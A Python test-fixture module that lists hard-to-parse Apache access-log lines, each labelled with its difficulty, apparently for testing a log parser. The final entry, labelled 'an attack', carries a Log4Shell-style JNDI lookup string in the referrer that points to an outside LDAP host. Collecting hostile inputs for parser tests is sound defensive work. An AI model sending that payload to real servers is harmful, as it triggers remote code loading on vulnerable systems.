r"""Lines that real servers write and careless readers lose, each with what is hard about it.

In the form in which Apache logs them: `"` as `\"`, `\` as `\\`, what is not printable ASCII as `\xHH`, `\n`, `\t`.
"""

from __future__ import annotations

_TIME = "[20/May/2015:12:05:17 +0000]"
_END = '200 512 "-" "curl/7.88.1"'

HARD_LINES: tuple[tuple[str, str], ...] = (
    ("IPv6", f'2001:db8::17 - - {_TIME} "GET / HTTP/1.1" {_END}'),
    (
        "IPv6 loopback",
        f'::1 - - {_TIME} "OPTIONS * HTTP/1.0" 200 126 "-" "Apache (internal dummy connection)"',
    ),
    ("a host name", f'crawl-66-249-66-1.googlebot.com - - {_TIME} "GET /robots.txt HTTP/1.1" {_END}'),
    ("a user", f'192.0.2.7 - alice {_TIME} "GET /private HTTP/1.1" {_END}'),
    ("identd and a user", f'192.0.2.7 ident alice {_TIME} "GET /private HTTP/1.1" {_END}'),
    ("a user with a blank", f'192.0.2.7 - alice b {_TIME} "GET /private HTTP/1.1" 401 381 "-" "-"'),
    ("an empty user", f'192.0.2.7 - "" {_TIME} "GET /private HTTP/1.1" 401 381 "-" "-"'),
    ("no size", f'192.0.2.7 - - {_TIME} "GET /style.css HTTP/1.1" 304 - "-" "curl/7.88.1"'),
    ("5 GB", f'192.0.2.7 - - {_TIME} "GET /disk.iso HTTP/1.1" 200 5368709120 "-" "curl/7.88.1"'),
    ("east of Greenwich", f'192.0.2.7 - - [20/May/2015:01:05:17 +0530] "GET / HTTP/1.1" {_END}'),
    ("west of Greenwich", f'192.0.2.7 - - [31/Dec/2015:23:05:17 -0800] "GET / HTTP/1.1" {_END}'),
    ("a quote in the agent", rf'192.0.2.7 - - {_TIME} "GET / HTTP/1.1" 200 5 "-" "a \"great\" browser"'),
    ("a quote in the referrer", rf'192.0.2.7 - - {_TIME} "GET / HTTP/1.1" 200 5 "http://x/?q=\"a\"" "-"'),
    ("a quote in the target", rf'192.0.2.7 - - {_TIME} "GET /?q=\"shoes\" HTTP/1.1" {_END}'),
    ("a backslash at the end", rf'192.0.2.7 - - {_TIME} "GET / HTTP/1.1" 200 5 "-" "ends with \\"'),
    ("a backslash in the target", rf'192.0.2.7 - - {_TIME} "GET /c:\\windows HTTP/1.1" {_END}'),
    (
        "the end of a line in the agent",
        rf'192.0.2.7 - - {_TIME} "GET / HTTP/1.1" 200 5 "-" "a \"] \" 200 7 \"-\""',
    ),
    ("an empty agent", f'192.0.2.7 - - {_TIME} "GET / HTTP/1.1" 200 5 "-" ""'),
    ("an agent of 4,000 characters", f'192.0.2.7 - - {_TIME} "GET / HTTP/1.1" 200 5 "-" "{"A" * 4000}"'),
    ("bytes that are not ASCII", rf'192.0.2.7 - - {_TIME} "GET /caf\xc3\xa9 HTTP/1.1" {_END}'),
    ("a tab and an end of line", rf'192.0.2.7 - - {_TIME} "GET / HTTP/1.1" 200 5 "-" "a\tb\nc"'),
    ("TLS at a plain port", rf'192.0.2.7 - - {_TIME} "\x16\x03\x01\x02" 400 226 "-" "-"'),
    ("no request", f'192.0.2.7 - - {_TIME} "-" 408 - "-" "-"'),
    ("HTTP/0.9", f'192.0.2.7 - - {_TIME} "GET /old" 200 12 "-" "-"'),
    ("HTTP/2", f'192.0.2.7 - - {_TIME} "GET /new HTTP/2.0" {_END}'),
    ("blanks in the target", f'192.0.2.7 - - {_TIME} "GET /a b.html HTTP/1.1" 400 226 "-" "-"'),
    ("a proxy's request", f'192.0.2.7 - - {_TIME} "CONNECT example.com:443 HTTP/1.1" 405 226 "-" "-"'),
    ("an absolute target", f'192.0.2.7 - - {_TIME} "GET http://example.com/ HTTP/1.1" {_END}'),
    ("a rare method", f'192.0.2.7 - - {_TIME} "VERSION-CONTROL /dav HTTP/1.1" 405 226 "-" "-"'),
    ("an attack", f'192.0.2.7 - - {_TIME} "GET / HTTP/1.1" 200 5 "${{jndi:ldap://203.0.113.5/a}}" "-"'),
)
